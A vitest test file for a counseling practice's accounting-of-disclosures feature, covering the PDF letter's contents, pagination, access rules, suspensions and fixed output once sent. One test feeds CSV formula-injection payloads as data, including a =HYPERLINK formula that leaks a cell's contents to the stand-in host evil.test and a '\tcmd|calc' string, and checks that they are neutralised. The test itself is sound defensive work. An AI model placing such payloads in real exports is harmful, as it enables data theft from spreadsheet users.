// rule REL-4: the accounting of disclosures as the PDF letter to the client, through its route: each
// accountable disclosure (date, recipient and address, what, why) and the period covered, a plain
// line when there were none, "Page N of M" on a long one, suspensions honoured, and once sent the
// same bytes. And the CSV's cells never run as spreadsheet formulas.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../support/app.js';
import {
  createClient,
  createPractice,
  createUser,
  type TestPractice,
  type TestUser,
} from '../support/factories.js';
import { pdfPageCount, pdfText, qpdfCheck } from '../support/pdf.js';
import { type Agent, auditRows, signIn } from '../support/session.js';

const flat = (s: string) => s.replace(/\s+/g, ' ');

describe('the accounting of disclosures as a PDF letter', () => {
  let t: TestApp;
  let practice: TestPractice;
  const u: Record<string, TestUser> = {};
  const as: Record<string, Agent> = {};

  const newClient = async (fields: Record<string, unknown> = {}) =>
    (await createClient(t, practice, u.therapist!, fields)).id;

  /** A log entry as record-release would have written it, at a chosen date. */
  async function entry(
    clientId: string,
    kind: string,
    disclosedAt: string,
    recipientName: string,
    extra: { address?: string; description?: string; purpose?: string } = {},
  ) {
    await t.running.services.database.pool.query(
      `insert into disclosures (practice_id, client_id, kind, disclosed_at, recipient_name, recipient_address,
         description, purpose, deliverable, released_by)
       values ($1, $2, $3, $4, $5, $6, $7, $8, 'copy', $9)`,
      [
        practice.id,
        clientId,
        kind,
        disclosedAt,
        recipientName,
        extra.address ?? `${recipientName} address`,
        extra.description ?? 'Progress notes',
        extra.purpose ?? `Purpose of ${kind}`,
        u.support!.id,
      ],
    );
  }
  async function accountingFor(clientId: string, body: Record<string, unknown> = {}): Promise<string> {
    const res = await as.support!.post(`/api/clients/${clientId}/accounting-requests`, {
      requester: { name: 'Maria Lopez', contact: 'maria@example.test' },
      receivedAt: '2026-11-02T16:45:00Z',
      ...body,
    });
    if (res.statusCode !== 201) throw new Error(`accounting request: ${res.statusCode} ${res.body}`);
    return res.json().request.id;
  }
  const url = (clientId: string, id: string, file = 'accounting.pdf') =>
    `/api/clients/${clientId}/accounting-requests/${id}/${file}`;

  beforeAll(async () => {
    t = await createTestApp();
    t.clock.set('2026-11-02T17:00:00Z'); // Monday, 09:00 in Los Angeles
    practice = await createPractice(t, {
      name: 'Riverbend Counseling',
      timeZone: 'America/Los_Angeles',
      privacyOfficerName: 'Dana Cho',
      privacyOfficerEmail: 'privacy@riverbend.test',
      privacyOfficerPhone: '(555) 010-2000',
    });
    u.support = await createUser(t, practice, ['support']);
    u.therapist = await createUser(t, practice, ['therapist']);
    u.privacy = await createUser(t, practice, ['privacy_officer']);
    for (const [k, user] of Object.entries(u)) as[k] = await signIn(t, user);
  });
  afterAll(async () => {
    await t.close();
  });

  it('REL-4: the letter lists each accountable disclosure with its date, recipient and address, what and why, for the period covered', async () => {
    const clientId = await newClient({
      firstName: 'Maria',
      lastName: 'Lopez',
      address: '12 Elm Street\nFresno, CA 93701',
    });
    await entry(clientId, 'court_order', '2023-02-14T18:00:00Z', 'Superior Court, Dept. 12', {
      address: '1100 Van Ness Ave\nFresno, CA',
      description: 'Assessments, 2021–2022',
      purpose: 'Order of Judge Ruiz, case 22-CV-0042',
    });
    await entry(clientId, 'other_legal', '2025-08-20T18:00:00Z', "County Sheriff's Office", {
      purpose: 'Law enforcement request',
    });
    // Exempt kinds (to the client, under an authorization) are not in an accounting.
    await entry(clientId, 'client_access', '2025-09-01T18:00:00Z', 'Maria Lopez (herself)');
    await entry(clientId, 'authorization', '2025-10-01T18:00:00Z', 'Pacific Life Insurance');
    const id = await accountingFor(clientId);
    const viewedBefore = (await auditRows(t, 'accounting.viewed')).length;

    const res = await as.support!.get(url(clientId, id));
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="accounting-of-disclosures-${id}.pdf"`,
    );
    expect(res.headers['cache-control']).toBe('no-store');
    const pdf = res.rawPayload;
    await expect(qpdfCheck(pdf)).resolves.toContain('No syntax or stream encoding errors');
    const text = flat(await pdfText(pdf));
    for (const expected of [
      'Riverbend Counseling',
      'Accounting of disclosures of your health information',
      'Maria Lopez',
      '12 Elm Street',
      'Period covered 2 November 2020 to 2 November 2026',
      'Disclosures listed 2',
      '14 February 2023',
      'Superior Court, Dept. 12',
      '1100 Van Ness Ave',
      'Assessments, 2021–2022',
      // (a long purpose wraps within its column)
      'Order of Judge Ruiz,',
      '22-CV-0042',
      '20 August 2025',
      "County Sheriff's Office",
      'Law enforcement request',
      'There is no charge for this list.',
      'contact our privacy officer, Dana Cho, at (555) 010-2000 or privacy@riverbend.test',
      'Page 1 of 1',
    ]) {
      expect(text).toContain(expected);
    }
    expect(text).not.toContain('Pacific Life');
    expect(text).not.toContain('(herself)');
    const viewed = (await auditRows(t, 'accounting.viewed')).slice(viewedBefore);
    expect(viewed.map((a) => a.data)).toEqual([
      expect.objectContaining({ accountingRequestId: id, format: 'pdf', entries: 2 }),
    ]);
    // The accounting is support's and the privacy officer's, not the therapist's.
    expect((await as.therapist!.get(url(clientId, id))).statusCode).toBe(403);
  });

  it('REL-4: with no accountable disclosure in the period, the letter says so in a plain line', async () => {
    const clientId = await newClient();
    await entry(clientId, 'provider_continuity', '2025-06-01T18:00:00Z', 'Valley Psychiatry');
    const id = await accountingFor(clientId);
    const res = await as.privacy!.get(url(clientId, id));
    expect(res.statusCode).toBe(200);
    await expect(qpdfCheck(res.rawPayload)).resolves.toContain('No syntax or stream encoding errors');
    const text = flat(await pdfText(res.rawPayload));
    expect(text).toContain('There were none. In this period we did not share your health information');
    expect(text).toContain('Disclosures listed 0');
    expect(text).not.toContain('Valley Psychiatry');
  });

  it('REL-4: a long accounting runs over pages numbered "Page N of M", every entry listed', async () => {
    const clientId = await newClient();
    for (let i = 0; i < 70; i++) {
      const day = String((i % 28) + 1).padStart(2, '0');
      const month = String((i % 12) + 1).padStart(2, '0');
      await entry(clientId, 'subpoena', `2025-${month}-${day}T18:00:00Z`, `Counsel number ${i + 1} LLP`, {
        address: `${i + 1} Main Street\nFresno, CA`,
        description: 'Progress notes and treatment plans, 2024',
        purpose: `Subpoena in case ${i + 1}`,
      });
    }
    const id = await accountingFor(clientId);
    const pdf = (await as.support!.get(url(clientId, id))).rawPayload;
    await expect(qpdfCheck(pdf)).resolves.toContain('No syntax or stream encoding errors');
    const pages = await pdfPageCount(pdf);
    expect(pages).toBeGreaterThan(2);
    const text = flat(await pdfText(pdf));
    for (let n = 1; n <= pages; n++) expect(text).toContain(`Page ${n} of ${pages}`);
    for (let i = 1; i <= 70; i++) expect(text).toContain(`Counsel number ${i} LLP`);
    expect(text).toContain('Disclosures listed 70');
  });

  it('REL-4: an unknown accounting request is 404; another client’s is 404', async () => {
    const clientId = await newClient();
    const other = await newClient();
    const id = await accountingFor(other);
    expect((await as.support!.get(url(clientId, id))).statusCode).toBe(404);
    expect((await as.support!.get(url(clientId, '00000000-0000-4000-8000-000000000000'))).statusCode).toBe(
      404,
    );
  });

  it('REL-4: a CSV cell starting with =, +, -, @, a tab or a carriage return is neutralised with a single quote', async () => {
    const clientId = await newClient();
    // Through the privacy officer's route, as an attacker-chosen recipient name would arrive.
    const wrong = await as.privacy!.post(`/api/clients/${clientId}/disclosures/impermissible`, {
      disclosedAt: '2026-09-30T20:00:00Z',
      recipientName: '=HYPERLINK("http://evil.test/?x="&A1,"Click me")',
      recipientAddress: '+1 555 0199',
      description: '-2+3',
      purpose: '@SUM(1,2)',
    });
    expect(wrong.statusCode, wrong.body).toBe(201);
    // Leading tabs and carriage returns cannot come through the API (it trims); the log may hold them.
    await entry(clientId, 'subpoena', '2026-10-01T18:00:00Z', '\tcmd|calc', {
      address: '\r=1+1',
      description: 'Progress notes',
      purpose: 'Safe purpose',
    });
    const id = await accountingFor(clientId);
    const res = await as.support!.get(url(clientId, id, 'accounting.csv'));
    expect(res.statusCode).toBe(200);
    const [header, first, second, end] = res.body.split('\r\n');
    expect(header).toBe('date,recipient,address,description,purpose');
    expect(first).toBe(
      `2026-09-30,"'=HYPERLINK(""http://evil.test/?x=""&A1,""Click me"")",'+1 555 0199,'-2+3,"'@SUM(1,2)"`,
    );
    expect(second).toBe(`2026-10-01,'\tcmd|calc,"'\r=1+1",Progress notes,Safe purpose`);
    expect(end).toBe('');
    // No cell of the file starts with a formula character any more.
    expect(res.body).not.toMatch(/(^|,|\r\n)"?[=+\-@\t]/);
    // The JSON and the PDF carry the words as they are: they are not spreadsheets.
    const json = await as.support!.get(url(clientId, id, 'accounting.json'));
    expect(json.json().entries[0].recipient).toBe('=HYPERLINK("http://evil.test/?x="&A1,"Click me")');
  });

  // Last: it moves the clock on.
  it("REL-4: an agency's suspension leaves its disclosures out of the letter while it lasts; once sent, the letter is the same bytes", async () => {
    const clientId = await newClient();
    await entry(clientId, 'other_legal', '2025-08-20T18:00:00Z', 'State Oversight Board');
    await entry(clientId, 'court_order', '2025-09-20T18:00:00Z', 'Superior Court, Dept. 3');
    const suspended = await as.privacy!.post(`/api/clients/${clientId}/accounting-suspensions`, {
      agency: 'State Oversight Board',
      reason: 'Ongoing investigation; written statement',
      statement: 'written',
      startsOn: '2025-08-01',
      until: '2026-12-01',
    });
    expect(suspended.statusCode).toBe(201);
    const id = await accountingFor(clientId);
    const during = flat(await pdfText((await as.support!.get(url(clientId, id))).rawPayload));
    expect(during).toContain('Superior Court, Dept. 3');
    expect(during).not.toContain('State Oversight Board');
    expect(during).not.toContain('suspen');

    const sent = await as.support!.post(`/api/clients/${clientId}/accounting-requests/${id}/fulfilment`, {
      method: 'mail',
    });
    expect(sent.statusCode).toBe(200);
    const first = (await as.support!.get(url(clientId, id))).rawPayload;
    // A later entry, and the end of the suspension, do not change what was sent.
    await entry(clientId, 'subpoena', '2026-06-01T18:00:00Z', 'Late Counsel LLP');
    t.clock.set('2026-12-03T17:00:00Z');
    as.support = await signIn(t, u.support!);
    const again = (await as.support.get(url(clientId, id))).rawPayload;
    expect(again.equals(first)).toBe(true);
    const text = flat(await pdfText(again));
    expect(text).not.toContain('Late Counsel');
    expect(text).not.toContain('State Oversight Board');
  });
});
